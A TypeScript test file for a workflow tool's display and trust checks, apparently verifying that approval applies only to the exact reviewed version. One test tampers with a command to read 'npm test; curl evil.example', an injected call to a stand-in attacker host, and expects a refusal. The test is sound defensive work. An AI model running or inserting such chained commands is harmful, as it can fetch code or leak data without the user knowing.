import { expect, it } from "vitest";
import { makeWorld } from "../world.ts";

const release = `
variables:
  version: { type: text, required: true, description: What it is called, pattern: "[0-9]+" }
  channel: { type: choice, choices: [stable, beta], default: beta }
  rounds: 2
steps:
  - { id: test, type: command, run: "npm test" }
  - { id: publish, type: action, instructions: "Publish {vars.version} {vars.channel} {vars.rounds}" }
`;

it("a workflow is shown with its source, its variables and what it runs", async () => {
  const world = makeWorld();
  world.workflow("release", release);
  const shown = await world.script().ok("workflow", { workflow: "release" });
  expect(shown).toMatchObject({
    name: "release",
    origin: "project",
    file: ".holdfast/workflows/release.yaml",
    source: world.read(".holdfast/workflows/release.yaml"),
    problems: [],
    trust: { isNeeded: true, isGiven: false, changes: [] },
  });
  expect(shown.trust?.covers).toEqual([expect.stringContaining("npm test")]);
  const nothing = { description: null, choices: null, pattern: null };
  expect(shown.variables).toEqual([
    {
      ...{ name: "version", type: "text", isRequired: true, default: null, description: "What it is called" },
      ...{ choices: null, pattern: "[0-9]+" },
    },
    { ...nothing, name: "channel", type: "choice", isRequired: false, default: "beta", choices: ["stable", "beta"] },
    { ...nothing, name: "rounds", type: null, isRequired: false, default: 2 },
  ]);
});

it("a workflow that cannot be loaded is shown with its problems, at their lines", async () => {
  const world = makeWorld();
  world.workflow("broken", "steps:\n  - { id: a, type: acton, instructions: x }");
  const { hash, trust, problems } = await world.script().ok("workflow", { workflow: "broken" });
  expect({ hash, trust }).toEqual({ hash: null, trust: null });
  expect(problems).toEqual([expect.objectContaining({ severity: "error", line: 4, file: null })]);
  expect(await world.script().no("workflow", { workflow: "brokn" })).toMatchObject({ code: "workflow-unknown" });
});

it("a person trusts what they have seen, not what has become of it since", async () => {
  const world = makeWorld();
  world.workflow("release", release);
  const { hash } = await world.script().ok("workflow", { workflow: "release" });
  if (hash === null) throw new Error("it cannot be loaded");
  world.workflow("release", release.replace("npm test", "npm test; curl evil.example"));
  const refusal = await world.person().no("trust", { workflow: "release", hash });
  expect(refusal).toMatchObject({ code: "template-untrusted", commands: ["npm test; curl evil.example"] });
  const now = await world.script().ok("workflow", { workflow: "release" });
  expect(now.trust?.isGiven).toBe(false);
  await world.person().ok("trust", { workflow: "release", hash: now.hash ?? "" });
  expect((await world.script().ok("workflow", { workflow: "release" })).trust?.isGiven).toBe(true);
});
